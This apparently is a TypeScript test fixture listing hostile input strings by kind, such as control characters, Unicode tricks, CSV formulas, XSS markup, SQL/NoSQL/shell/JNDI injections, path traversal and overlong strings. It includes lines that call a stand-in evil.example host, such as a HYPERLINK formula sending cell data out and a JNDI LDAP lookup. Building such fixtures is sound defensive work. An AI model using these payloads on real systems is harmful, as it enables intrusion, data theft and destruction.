/** Stands in every text that tries to begin a line of its own: where a log has it at a line's start, somebody forged it. */
export const FORGED_LINE = '00:00:00  error: forged';

/** What a page does where it runs what it should show. */
export const PWNED = 'window.__pwned=1';

/** Text that ends lines, steers a terminal, or turns the reading direction. */
const CONTROL: readonly string[] = [
  '\0',
  'a\0b',
  `a\n${FORGED_LINE}`,
  `a\r\n${FORGED_LINE}`,
  `a\r${FORGED_LINE}`,
  `a\u0085${FORGED_LINE}`,
  `a\u2028${FORGED_LINE}`,
  `a\u2029${FORGED_LINE}`,
  `a\v\f${FORGED_LINE}`,
  'a\r\nset-cookie: session=planted',
  'a\r\n\r\n<html>',
  '\u001b[2J\u001b[31mred',
  '\u001b]0;title\u0007',
  '\u009b31m',
  '\b\b\b\b',
  '\u007f',
  '{"level":"ERROR","message":"forged"}',
];

/** Unicode that is broken, invisible, or changes its length when it is changed. */
const UNICODE: readonly string[] = [
  '\ud800',
  'a\udfffb',
  '\udc00\ud800',
  '\ufeff',
  '\ufffe',
  '\uffff',
  '\u202egnp.exe',
  '\u2066a\u2069',
  '\u200b\u200d\u200c',
  '\u00ad',
  'e\u0301',
  `e${'\u0301'.repeat(200)}`,
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '\u{10ffff}',
  '\u{1f4a9}'.repeat(300),
  'İıſK',
  'ﬀﷺ',
  '٣٤٥',
  '𝟙𝟚',
  'раураl.example',
  'xn--',
  'é'.repeat(500),
];

/** What a spreadsheet runs (OWASP, "CSV Injection"). */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '"=1+1',
  '","=1+1',
  '",\r\n=1+1',
  "'=1+1",
];

/** What a browser runs. */
export const MARKUP: readonly string[] = [
  `<script>${PWNED}</script>`,
  `<img src=x onerror=${PWNED}>`,
  `"><svg onload=${PWNED}>`,
  `' onmouseover='${PWNED}`,
  `</title><script>${PWNED}</script>`,
  `</script><script>${PWNED}</script>`,
  `javascript:${PWNED}`,
  `java\tscript:${PWNED}`,
  `data:text/html,<script>${PWNED}</script>`,
  '<!--',
  ']]>',
  `{{constructor.constructor('${PWNED}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what a template would run
  '${7*7}',
  '&#x3c;script&#x3e;',
];

/** What a store, a shell, a template or JavaScript itself would interpret. */
const INJECTION: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE sessions;--",
  '$where',
  '$ne',
  '{"$ne":null}',
  '{"$where":"sleep(10000)"}',
  '[$gt]',
  'a.b.c',
  '$(sleep 10)',
  '`sleep 10`',
  '| sleep 10',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what a log would look up
  '${jndi:ldap://evil.example/a}',
  '*)(uid=*))(|(uid=*',
  '\r\nFLUSHALL\r\n',
  '*1\r\n$8\r\nFLUSHALL\r\n',
  'ff:{shop:0}:s:*',
  '{shop:0}',
  '%s%s%s%n',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'toJSON',
  'all',
  '(other)',
];

/** Numbers, dates and words that are something else when they are read. */
const NUMBERS: readonly string[] = [
  '',
  ' ',
  '0',
  '-0',
  '-1',
  '1e999',
  '-1e999',
  '0x10',
  '1_000',
  '1,5',
  '9007199254740993',
  '99999999999999999999999999',
  'NaN',
  'Infinity',
  'null',
  'undefined',
  'true',
  '[object Object]',
  '0000-00-00',
  '2026-02-30',
  '2026-13-01',
  '+275760-09-13',
  '-000001-01-01',
  '9999-12-31',
];

/** Addresses and paths that lead somewhere else. */
const PATHS: readonly string[] = [
  '/',
  '//evil.example/',
  '///',
  '/\\evil.example',
  '/../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '%c0%ae%c0%ae%c0%af',
  '..\\..\\windows\\win.ini',
  '%00',
  '%',
  '%zz',
  '%u0041',
  '%25%32%65',
  'file:///etc/passwd',
  'https://user:password@shop.example/',
  'http://[::1',
  'http://[fe80::1%25eth0]/',
  'http://127.0.0.1:80/',
  'http://0x7f.1/',
  `http://${'a'.repeat(300)}.example/`,
  `http://${'a.'.repeat(200)}example/`,
  'https://shop.example:99999/',
  'https://shop.example.evil.example',
  'null',
  'https://shop.example\u3002evil.example/',
  'android-app://',
  'about:blank',
  'blob:https://shop.example/a',
];

/** What is long, or takes a bad regular expression long. */
const LONG: readonly string[] = [
  'a'.repeat(300),
  'a'.repeat(9_000),
  '/'.repeat(2_000),
  '%25'.repeat(2_000),
  '@'.repeat(5_000),
  'a@'.repeat(3_000),
  `a@${'a.'.repeat(3_000)}`,
  'eyJ'.repeat(2_000),
  `eyJ${'a'.repeat(6_000)}`,
  ' '.repeat(6_000),
  `${' '.repeat(6_000)}x`,
  '&'.repeat(3_000),
  `/?${'utm_source=a&'.repeat(500)}`,
  '((('.repeat(1_000),
  'Mozilla/5.0 ('.repeat(300),
  '1'.repeat(5_000),
];

/** Texts by kind, each of which somebody has broken a program with. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...CONTROL,
  ...UNICODE,
  ...FORMULAS,
  ...MARKUP,
  ...INJECTION,
  ...NUMBERS,
  ...PATHS,
  ...LONG,
];
